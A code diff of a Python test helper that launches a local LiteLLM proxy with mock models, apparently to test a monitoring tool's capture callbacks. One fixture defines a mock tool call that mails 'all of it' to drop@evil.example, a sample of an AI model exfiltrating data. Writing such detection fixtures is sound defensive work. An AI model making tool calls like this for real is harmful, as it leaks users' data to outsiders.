@@ -6,12 +6,14 @@ import hashlib
 import json
 import os
 import random
+import shutil
 import string
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from contextlib import contextmanager
-from dataclasses import dataclass, field
+from dataclasses import dataclass, replace
+from importlib import resources
 from pathlib import Path
 from typing import Any
 
@@ -35,6 +37,7 @@ KEYS: dict[str, dict[str, Any]] = {
                        ("trudy", "t-labs"))
 }
 UNKNOWN_KEY = "sk-nobody-has-this-one"
+CALLBACKS = ("sentinel.capture.litellm.log", "litellm_keys.nothing")
 
 
 @dataclass(frozen=True)
@@ -42,7 +45,7 @@ class LiteLLM:
     """The running proxy.
 
     Attributes:
-        url: without a trailing slash. log: one StandardLoggingPayload a line. keys: name (see `KEYS`) -> `sk-...`.
+        url: without a trailing slash. log: what sentinel's own callback writes. keys: name (see `KEYS`) -> `sk-...`.
         models: model name -> what it answers. python: of the proxy's own venv. pid: of the proxy.
     """
 
@@ -53,7 +56,6 @@ class LiteLLM:
     models: dict[str, str]
     python: Path
     pid: int
-    callback_folder: Path = field(repr=False)
 
     def hash(self, name: str) -> str:
         return hashlib.sha256(self.keys[name].encode()).hexdigest()
@@ -88,22 +90,32 @@ class LiteLLM:
 
 
 @contextmanager
-def running(folder: Path) -> Iterator[LiteLLM]:
-    """Start the proxy in `folder`, stop it at the end. About 35 s; the first time also what installing takes."""
-    venv = Path(os.environ.get("LITELLM_VENV") or _installed())
-    port, models = free_port(), answers_of_models()
+def running(folder: Path, *arguments: str, callbacks: Sequence[str] = CALLBACKS, **environment: str) -> Iterator[LiteLLM]:
+    """Start the proxy in `folder`, stop it at the end. About 35 s; the first time also what installing takes.
+
+    Args:
+        arguments: more of the command line. callbacks: as in the proxy's config. environment: more variables.
+    """
+    port, models, python = free_port(), answers_of_models(), venv() / "bin" / "python"
     found = LiteLLM(f"http://127.0.0.1:{port}", folder / "litellm.jsonl", MASTER_KEY,
-                    {name: f"sk-{name}-0000-1111-2222-3333" for name in KEYS}, models, venv / "bin" / "python",
-                    0, folder)
-    (folder / "litellm_callback.py").write_bytes((Path(__file__).parent / "litellm_callback.py").read_bytes())
-    (folder / "config.yaml").write_text(json.dumps(_config(models)))  # JSON is YAML
-    process = Process([venv / "bin" / "litellm", "--config", folder / "config.yaml", "--host", "127.0.0.1",
-                       "--port", str(port)], folder, _environment(folder, found))
+                    {name: f"sk-{name}-0000-1111-2222-3333" for name in KEYS}, models, python, 0)
+    install(folder)
+    (folder / "config.yaml").write_text(json.dumps(_config(models, callbacks)))  # JSON is YAML
+    process = Process([python.with_name("litellm"), "--config", folder / "config.yaml", "--host", "127.0.0.1",
+                       "--port", str(port), *arguments], folder, _environment(folder, found) | environment)
     try:
-        process.wait_until(Path(f"{found.log}.ready").exists, 180)
-        yield LiteLLM(**{**vars(found), "pid": process.pid})
+        process.wait_until((folder / "ready").exists, 180)
+        yield replace(found, pid=process.pid)
     finally:
         process.stop()
+
+
+def install(folder: Path) -> None:
+    """Put the callbacks beside the proxy's config, as `sentinel capture install` does with sentinel's own."""
+    shutil.copy(Path(__file__).parent / "litellm_keys.py", folder)
+    capture = folder / "sentinel" / "capture" / "litellm.py"
+    capture.parent.mkdir(parents=True)
+    shutil.copy(str(resources.files("sentinel.capture") / "litellm.py"), capture)
 
 
 def answers_of_models() -> dict[str, str]:
@@ -123,7 +135,7 @@ _TOOL_CALL = {"id": "call_1", "type": "function",
               "function": {"name": "send_mail", "arguments": json.dumps({"to": "drop@evil.example", "body": "all of it"})}}
 
 
-def _config(models: dict[str, str]) -> dict[str, Any]:
+def _config(models: dict[str, str], callbacks: Sequence[str]) -> dict[str, Any]:
     def model(name: str, answer: str) -> dict[str, Any]:
         parameters: dict[str, Any] = {"model": f"openai/{name}", "api_key": "none", "mock_response": answer}
         if name == "leaky-tools":
@@ -132,7 +144,7 @@ def _config(models: dict[str, str]) -> dict[str, Any]:
 
     return {
         "model_list": [model(*item) for item in models.items()],
-        "litellm_settings": {"callbacks": "litellm_callback.logger"},
+        "litellm_settings": {"callbacks": list(callbacks)},
         "general_settings": {"master_key": MASTER_KEY, "use_x_forwarded_for": True},
     }
 
@@ -140,18 +152,21 @@ def _config(models: dict[str, str]) -> dict[str, Any]:
 def _environment(folder: Path, proxy: LiteLLM) -> dict[str, str]:
     rows = {proxy.keys[name]: row for name, row in KEYS.items()}
     return {
-        "HOME": str(folder), "PYTHONPATH": str(folder),
+        "HOME": str(folder),
         # or it asks the internet at start, for ten seconds
         "LITELLM_LOCAL_MODEL_COST_MAP": "True", "LITELLM_TELEMETRY": "False",
-        "SENTINEL_TEST_LOG": str(proxy.log), "SENTINEL_TEST_URL": proxy.url, "SENTINEL_TEST_KEYS": json.dumps(rows),
+        "SENTINEL_CAPTURE_FILE": str(proxy.log), "SENTINEL_TEST_READY": str(folder / "ready"),
+        "SENTINEL_TEST_URL": proxy.url, "SENTINEL_TEST_KEYS": json.dumps(rows),
     }
 
 
-def _installed() -> Path:
+def venv() -> Path:
     """A venv of its own: LiteLLM pins much that sentinel does not. Made once, 155 s and 773 MB."""
-    with cached(f"litellm-{VERSION}-py{sys.version_info.major}.{sys.version_info.minor}") as (venv, whole):
+    if given := os.environ.get("LITELLM_VENV"):
+        return Path(given)
+    with cached(f"litellm-{VERSION}-py{sys.version_info.major}.{sys.version_info.minor}") as (folder, whole):
         if not whole:
-            subprocess.run([sys.executable, "-m", "venv", venv], check=True)
-            subprocess.run([venv / "bin" / "pip", "install", "-q", "--disable-pip-version-check",
+            subprocess.run([sys.executable, "-m", "venv", folder], check=True)
+            subprocess.run([folder / "bin" / "pip", "install", "-q", "--disable-pip-version-check",
                             f"litellm[proxy]=={VERSION}", f"prisma=={PRISMA}"], check=True)
-    return venv
+    return folder
